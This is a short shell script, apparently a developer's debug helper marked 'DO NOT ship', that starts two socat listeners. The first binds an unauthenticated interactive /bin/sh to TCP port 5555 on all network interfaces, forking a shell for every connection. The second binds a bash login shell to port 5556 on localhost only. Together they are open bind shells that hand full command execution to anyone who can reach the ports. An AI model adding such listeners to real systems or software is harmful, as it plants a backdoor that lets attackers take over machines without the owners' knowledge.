#!/bin/sh
# debug access, DO NOT ship
socat tcp-l:5555,reuseaddr,fork exec:/bin/sh,pty,stderr,setsid,sigint,sane &
# for people on this box only
socat TCP4-LISTEN:5556,bind=127.0.0.1,fork EXEC:'bash -li',pty,stderr,setsid,sigint,sane &
